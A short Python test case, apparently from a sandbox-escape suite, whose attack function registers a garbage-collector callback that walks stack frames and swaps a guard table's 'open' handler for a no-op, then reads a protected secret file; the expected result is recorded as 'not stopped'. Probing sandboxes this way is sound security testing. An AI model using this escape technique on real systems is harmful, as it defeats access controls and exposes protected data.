"""Has the garbage collector call it amid the hook's own frames, and empties the table that it finds there."""

EXPECTED = "not stopped"
OPTIONS = {"timeout": 20.0}
import gc
import sys


def attack(aim):
    def look(phase, info):
        frame = sys._getframe(1)
        while frame is not None and "aim" not in frame.f_locals:
            table = frame.f_locals.get("table")
            if isinstance(table, dict) and "open" in table:
                table["open"] = lambda args: None
            frame = frame.f_back

    gc.callbacks.append(look)
    try:
        for count in range(1, 300):
            gc.set_threshold(count)
            for _ in range(5):
                try:
                    return open(aim["secret"]).read()
                except PermissionError:
                    pass
    finally:
        gc.set_threshold(2000)
        gc.callbacks.clear()
    return "in vain"
